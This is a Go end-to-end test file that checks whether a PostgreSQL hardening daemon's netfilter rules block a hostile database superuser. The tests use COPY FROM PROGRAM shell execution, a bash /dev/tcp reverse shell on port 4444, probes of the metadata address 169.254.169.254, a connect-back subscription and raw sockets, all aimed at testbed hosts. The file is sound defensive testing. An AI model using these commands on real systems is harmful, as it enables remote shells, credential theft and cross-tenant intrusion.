package e2e

import (
	"context"
	"fmt"
	"io"
	"net/netip"
	"regexp"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/pghardend/pghardend/internal/control"
	"github.com/pghardend/pghardend/internal/testbed"
)

// attack is a slice whose database has a hostile superuser, and whom it wants to
// talk to: another tenant, a resolver that is not the instance's, the metadata
// service. The control plane's host is the instance's resolver.
type attack struct {
	*slice
	stranger, metadata *testbed.Host
}

// newAttack makes the bed and the agent's files; nothing runs yet.
func newAttack(t *testing.T, backend string) *attack {
	t.Helper()
	ctx, cancel := context.WithTimeout(t.Context(), sliceTimeout)
	t.Cleanup(cancel)
	bed, err := testbed.New(ctx, bedName("attack"), []testbed.HostSpec{
		{Name: "pg-0", Addresses: []string{"10.20.1.10/24", "fd00:20:1::10/64"}},
		{Name: "pool-0", Addresses: []string{"10.20.1.20/24", "fd00:20:1::20/64"}},
		{Name: "sibling", Addresses: []string{"10.20.1.66/24", "fd00:20:1::66/64"}},
		{Name: "control", Addresses: []string{"10.0.0.5/24", "fd00:10::5/64"}},
		{Name: "stranger", Addresses: []string{"10.60.0.7/24", "fd00:60::7/64"}},
		{Name: "metadata", Addresses: []string{"169.254.169.254/30", "fd00:ec2::254/64"}},
	})
	must(t, err)
	t.Cleanup(func() { must(t, bed.Close()) })
	s := &slice{t: t, ctx: ctx, bed: bed,
		node: bed.Host("pg-0"), peer: bed.Host("pool-0"), sibling: bed.Host("sibling"), control: bed.Host("control")}
	run(t, s.node, "sysctl -qw net.ipv4.tcp_syn_retries=1") // who is dropped gives up after 3 s, not 127
	s.cfg = testbed.AgentConfig{Backend: backend, Peers: testbed.Peers{
		Instance: "orders-prod",
		Nodes:    []testbed.Peer{testbed.PeerOf(s.node, "postgres"), testbed.PeerOf(s.peer, "pgpool")},
		Networks: map[string][]string{
			"control_plane": {"10.0.0.0/24", "fd00:10::/64"},
			"dns":           {"10.0.0.5/32", "fd00:10::5/128"},
			"siblings":      {"10.20.1.0/24", "fd00:20:1::/64"},
		},
	}}
	return &attack{slice: s, stranger: bed.Host("stranger"), metadata: bed.Host("metadata")}
}

// startAttack returns when PostgreSQL is ready, started and confined by the daemon.
func startAttack(t *testing.T, backend string) *attack {
	t.Helper()
	a := newAttack(t, backend)
	var err error
	a.cluster, err = a.bed.NewCluster(a.ctx, testbed.ClusterSpec{})
	must(t, err)
	service := testbed.ServiceOf(a.cluster)
	service.Groups = supplementaryGroups(t, a.cluster.User)
	withoutLandlock(&service)                  // which would deny the shell that the packets come from
	service.Features = []string{"auto", "udp"} // what stops datagrams here is netfilter alone
	a.cfg.Services = map[string]testbed.Service{"postgres": service}
	a.agent, err = testbed.NewAgent(a.ctx, a.node, a.cfg)
	must(t, err)
	a.start()
	return a
}

// superuser runs SQL as the attacker does: over the network, with all rights in the database.
func (a *attack) superuser(sql string) (string, error) {
	return a.cluster.Psql(a.ctx, a.peer, a.cluster.Conninfo(a.node.V4(), testbed.Superuser), sql)
}

// program has the server run a shell command, and returns what it said.
func (a *attack) program(sh string) (string, error) {
	return a.superuser("CREATE TEMP TABLE said (line text);\nCOPY said FROM PROGRAM $program$" + sh + "$program$;\n" +
		"SELECT string_agg(line, E'\\n') FROM said;")
}

// withoutRules is the control of every attack: the same server, as confined as
// before, while the node has no rules. What passes now was stopped by netfilter
// and by nothing else.
func (a *attack) withoutRules(f func()) {
	a.t.Helper()
	pid, err := a.cluster.PID()
	must(a.t, err)
	code, err := a.agent.Stop(a.ctx)
	if err != nil || code != 0 {
		a.t.Fatalf("stopping the daemon: %d %v", code, err)
	}
	a.want(0, []string{"goes on running"}, "teardown")
	f()
	a.start()
	if now, err := a.cluster.PID(); err != nil || now != pid {
		a.t.Errorf("the postmaster was process %d and is %d: %v", pid, now, err)
	}
	for _, l := range a.awaitOK().Layers {
		if l.Configured && !l.Enforced {
			a.t.Errorf("layer %+v is not enforced", l)
		}
	}
}

// wire is what a packet looks like to who watches: protocol, destination, port.
func wire(proto string, to netip.Addr, port uint16) string {
	return fmt.Sprintf("%s %s %d", proto, to, port)
}

// arrives checks that what act sends to the hosts is exactly want, seen on their
// interfaces, before any rules of theirs.
func (a *attack) arrives(state string, want []string, act func(), hosts ...*testbed.Host) {
	a.t.Helper()
	ours := a.node.Addresses()
	var captures []*testbed.Capture
	for _, h := range hosts {
		c, err := h.Capture(func(p testbed.Packet) bool {
			housekeeping := p.Proto == testbed.ProtoICMPv6 && p.ICMPType >= 130 // RFC 4861, RFC 3810
			answer := p.Proto == testbed.ProtoTCP && p.SrcPort == 5432          // of the session that the attacker is in by
			return !p.Out && slices.Contains(ours, p.Src) && !housekeeping && !answer
		})
		must(a.t, err)
		defer func() { must(a.t, c.Close()) }()
		captures = append(captures, c)
	}
	seen := func() []string {
		var list []string
		for _, c := range captures {
			for _, p := range c.Packets() {
				name, ok := map[uint8]string{testbed.ProtoTCP: "tcp", testbed.ProtoUDP: "udp"}[p.Proto]
				if !ok {
					name = fmt.Sprint(p.Proto)
				}
				list = append(list, wire(name, p.Dst, p.DstPort))
			}
		}
		slices.Sort(list)
		return slices.Compact(list)
	}
	act()
	ctx, cancel := context.WithTimeout(a.ctx, 5*time.Second)
	defer cancel()
	if err := testbed.Await(ctx, "the packets", func(context.Context) error {
		for _, w := range want {
			if !slices.Contains(seen(), w) {
				return fmt.Errorf("%q did not arrive", w)
			}
		}
		return nil
	}); err != nil {
		a.t.Errorf("%s: %v", state, err)
	}
	for _, got := range seen() {
		if !slices.Contains(want, got) {
			a.t.Errorf("%s: %q arrived", state, got)
		}
	}
}

// target is a service that an attacker wants to reach.
type target struct {
	host  *testbed.Host
	proto string
	port  uint16
}

func wires(list []target) (all []string) {
	for _, g := range list {
		for _, to := range families(g.host) {
			all = append(all, wire(g.proto, to, g.port))
		}
	}
	return all
}

// tryAll sends something to all targets, both families, from a shell of the
// server's user, and returns those that the shell believes to have reached.
func (a *attack) tryAll(list []target) []string {
	a.t.Helper()
	var sh strings.Builder
	sh.WriteString("exec bash -c '\n")
	for _, w := range wires(list) {
		f := strings.Fields(w)
		fmt.Fprintf(&sh, "(echo x > /dev/%s/%s/%s && echo reached %s) 2>/dev/null &\n", f[0], f[1], f[2], w)
	}
	sh.WriteString("wait; echo done'")
	said, err := a.program(sh.String())
	must(a.t, err)
	if !strings.Contains(said, "done") {
		a.t.Fatalf("the program did not run to its end:\n%s", said)
	}
	var reached []string
	for line := range strings.Lines(said) {
		if w, ok := strings.CutPrefix(strings.TrimSpace(line), "reached "); ok {
			reached = append(reached, w)
		}
	}
	slices.Sort(reached)
	return reached
}

// serve has hosts listen on the TCP targets, so that whoever gets there notices.
func (a *attack) serve(list []target) {
	a.t.Helper()
	for _, g := range list {
		for _, at := range families(g.host) {
			var err error
			if g.proto == "tcp" {
				_, err = g.host.ServeTCP(a.ctx, netip.AddrPortFrom(at, g.port)) // until the bed is closed
			}
			must(a.t, err)
		}
	}
}

// connectBack has the server itself connect to a port, without any program.
func (a *attack) connectBack(to netip.Addr, port uint16) {
	a.t.Helper()
	out, err := a.superuser(fmt.Sprintf(
		"SET statement_timeout = '3s';\nCREATE SUBSCRIPTION stolen CONNECTION 'host=%s port=%d user=x dbname=x' PUBLICATION x;", to, port))
	if err == nil {
		a.t.Errorf("a subscription to %s port %d succeeds: %s", to, port, out)
	}
}

var dropCounter = regexp.MustCompile(`(?m)^\[(\d+):\d+\] -A PGHARDEND-(OUT|META) (?:-m comment )?--comment "?pghardend:(drop|metadata)"? -j DROP$`)

// dropped counts what the last rule of a chain for outgoing packets has dropped, both families.
func (a *attack) dropped(chain string) int {
	a.t.Helper()
	all := run(a.t, a.node, fmt.Sprintf("iptables-%s-save -c -t filter; ip6tables-%[1]s-save -c -t filter", a.cfg.Backend))
	n, rules := 0, 0
	for _, m := range dropCounter.FindAllStringSubmatch(all, -1) {
		if m[2] != chain {
			continue
		}
		packets, err := strconv.Atoi(m[1])
		must(a.t, err)
		n, rules = n+packets, rules+1
	}
	if rules != 2 {
		a.t.Fatalf("%d last rules of PGHARDEND-%s, want one for each family:\n%s", rules, chain, all)
	}
	return n
}

const shellPort = 4444

// reverseShell has the server's user open a shell to the other tenant, who asks
// it who it is. It returns the answer, nothing if nobody called.
func (a *attack) reverseShell(to netip.Addr) (heard string, err error) {
	a.t.Helper()
	l, err := a.sibling.Listen(a.ctx, netip.AddrPortFrom(to, shellPort))
	must(a.t, err)
	answer := make(chan string, 1)
	go func() {
		conn, err := l.Accept()
		if err != nil { // closed below
			answer <- ""
			return
		}
		defer conn.Close()
		_ = conn.SetDeadline(time.Now().Add(10 * time.Second)) // a TCP connection has deadlines
		_, _ = io.WriteString(conn, "echo I am $(id -un) at $(hostname); exit\n")
		text, _ := io.ReadAll(conn) // what came before an error counts as well
		answer <- "a connection: " + string(text)
	}()
	_, err = a.program(fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/%s/%d 0>&1'", to, shellPort))
	must(a.t, l.Close())
	return <-answer, err
}

// A36, by netfilter alone: the shell starts, since no layer denies that yet, and
// its connection to another tenant gets nowhere.
func TestA36_ReverseShellGetsNowhere(t *testing.T) {
	t.Parallel()
	eachBackendAtOnce(t, func(t *testing.T, backend string) {
		a := startAttack(t, backend)
		stopped := func() {
			t.Helper()
			for _, to := range families(a.sibling) {
				before := a.dropped("OUT")
				a.arrives("reverse shell", nil, func() {
					if heard, err := a.reverseShell(to); heard != "" || err == nil || !strings.Contains(err.Error(), "program") {
						t.Errorf("to %s: the attacker heard %q, the attacked %v; want nothing, and a program that failed", to, heard, err)
					}
				}, a.sibling)
				n := a.dropped("OUT") - before
				if n == 0 {
					t.Fatalf("to %s: the last rule of PGHARDEND-OUT has dropped nothing", to)
				}
				t.Logf("to %s: stopped by layer netfilter, %d packets dropped by PGHARDEND-OUT", to, n)
				a.want(4, []string{"drop"}, "explain", "--from", "pg-0", "--to", to.String(), "--proto", "tcp", "--port", fmt.Sprint(shellPort))
			}
		}
		stopped()
		a.withoutRules(func() {
			for _, to := range families(a.sibling) {
				if heard, err := a.reverseShell(to); !strings.Contains(heard, "I am postgres at pg-0") {
					t.Fatalf("without rules to %s: the attacker heard %q (%v); the test proves nothing", to, heard, err)
				}
			}
		})
		stopped()
	})
}

// A47 from inside the database: neither a program of the server's user nor the
// server itself reaches the metadata service, which root on the node does.
func TestA47_MetadataFromPostgres(t *testing.T) {
	t.Parallel()
	eachBackendAtOnce(t, func(t *testing.T, backend string) {
		a := startAttack(t, backend)
		list := []target{{a.metadata, "tcp", 80}, {a.metadata, "tcp", 443}, {a.metadata, "tcp", 53}, {a.metadata, "udp", 53}, {a.metadata, "udp", 80}}
		a.serve(list)
		steal := func() {
			reached := a.tryAll(list)
			for _, to := range families(a.metadata) {
				a.connectBack(to, 80)
			}
			t.Logf("the attacker believes to have reached %q", reached)
		}
		root := func() {
			t.Helper()
			for _, to := range families(a.metadata) {
				a.arrives("root", []string{wire("tcp", to, 80)}, func() {
					if _, err := a.node.Run(a.ctx, "bash", "-c", fmt.Sprintf("echo x > /dev/tcp/%s/80", to)); err != nil {
						t.Errorf("root does not reach %s: %v", to, err)
					}
				}, a.metadata)
			}
		}
		before := a.dropped("META")
		a.arrives("the server's user", nil, steal, a.metadata)
		if n := a.dropped("META") - before; n == 0 {
			t.Error("the last rule of PGHARDEND-META has dropped nothing")
		}
		root()
		for _, to := range families(a.metadata) {
			args := []string{"explain", "--from", "pg-0", "--to", to.String(), "--proto", "tcp", "--port", "80"}
			a.want(4, []string{"metadata"}, args...)
			a.want(0, []string{"metadata"}, append(args, "--user", "root")...)
		}
		a.withoutRules(func() { a.arrives("without rules", wires(list), steal, a.metadata) })
		a.arrives("with rules again", nil, steal, a.metadata)
		root()
	})
}

// A48 from inside the database: no protocol and no port leads to another tenant
// or to somebody else's resolver, nor to a peer or the control plane where no row
// says so. The instance's own resolver is reached.
func TestA48_OtherTenantFromPostgres(t *testing.T) {
	t.Parallel()
	eachBackendAtOnce(t, func(t *testing.T, backend string) {
		a := startAttack(t, backend)
		var others []target
		for _, port := range []uint16{22, 53, 443, 5432, 9999, 31337} {
			others = append(others, target{a.sibling, "tcp", port})
		}
		for _, port := range []uint16{53, 123, 443, 9694, 31337} {
			others = append(others, target{a.sibling, "udp", port})
		}
		tunnel := []target{{a.stranger, "udp", 53}, {a.stranger, "tcp", 53}, {a.stranger, "udp", 5353}, {a.stranger, "tcp", 853}}
		unasked := []target{{a.peer, "tcp", 5432}, {a.peer, "tcp", 9999}, {a.peer, "tcp", 22}, {a.peer, "udp", 9694}, {a.control, "tcp", 22}, {a.control, "udp", 5353}}
		resolver := []target{{a.control, "udp", 53}, {a.control, "tcp", 53}}
		all := slices.Concat(others, tunnel, unasked, resolver)
		a.serve(all)
		hosts := []*testbed.Host{a.sibling, a.stranger, a.peer, a.control}
		talk := func() {
			reached := a.tryAll(all)
			for _, to := range families(a.sibling) {
				a.connectBack(to, 5432)
			}
			t.Logf("the attacker believes to have reached %q", reached)
		}
		a.arrives("with rules", wires(resolver), talk, hosts...)
		oddSockets(t, a)
		for _, h := range hosts[:2] {
			oddProtocols(t, a, h, false)
		}
		a.withoutRules(func() {
			a.arrives("without rules", wires(all), talk, hosts...)
			for _, h := range hosts[:2] {
				oddProtocols(t, a, h, true)
			}
		})
	})
}

// oddSockets: sockets that could carry other protocols are not for the server's user at all.
func oddSockets(t *testing.T, a *attack) {
	t.Helper()
	for _, row := range []struct{ what, socket string }{
		{"GRE", "2, 3, 47"}, {"SCTP, raw", "2, 3, 132"}, {"any IP", "2, 3, 255"}, {"ICMPv6", "10, 3, 58"}, {"packet", "17, 3, 768"},
	} {
		said, err := a.program(fmt.Sprintf("perl -e 'print socket(S, %s) ? \"open\" : \"denied\", qq(\\n)'", row.socket))
		if err != nil || said != "denied" {
			t.Errorf("a %s socket: %q %v; want it denied", row.what, said, err)
		}
	}
}

// oddProtocols: not even root on the node gets other protocols to another tenant.
func oddProtocols(t *testing.T, a *attack, to *testbed.Host, through bool) {
	t.Helper()
	for _, at := range families(to) {
		probes := append([]testbed.Probe{
			testbed.ProtoProbe(at, testbed.ProtoGRE), testbed.ProtoProbe(at, testbed.ProtoSCTP), testbed.ProtoProbe(at, 4),
			testbed.UDPProbe(netip.AddrPortFrom(at, 53), []byte("tunnel")), testbed.TCPProbe(netip.AddrPortFrom(at, 443), testbed.ACK),
		}, testbed.EchoProbes(at, 3)...)
		o := send(t, a.node, probes...)
		if through && o.Arrived != len(probes) {
			t.Fatalf("without rules to %s: %v; the test proves nothing", at, o)
		}
		if !through && (o.Denied != len(probes) || o.Arrived != 0) {
			t.Errorf("to %s: %v; want all %d denied", at, o, len(probes))
		}
	}
}

// startBare starts an agent without services.
func (a *attack) startBare() {
	a.t.Helper()
	if a.agent == nil {
		var err error
		a.agent, err = testbed.NewAgent(a.ctx, a.node, a.cfg)
		must(a.t, err)
	}
	a.startHold()
}

// ok waits for status ok of the daemon that runs now.
func (s *slice) ok(why string) control.Status {
	s.t.Helper()
	return s.awaitStatus("status ok "+why, func(st control.Status) error {
		if st.State != control.StateOK || st.PID != s.agent.PID() || st.LastReconcile.IsZero() {
			return fmt.Errorf("state %s of process %d, reasons %q", st.State, st.PID, st.Reasons)
		}
		return nil
	})
}
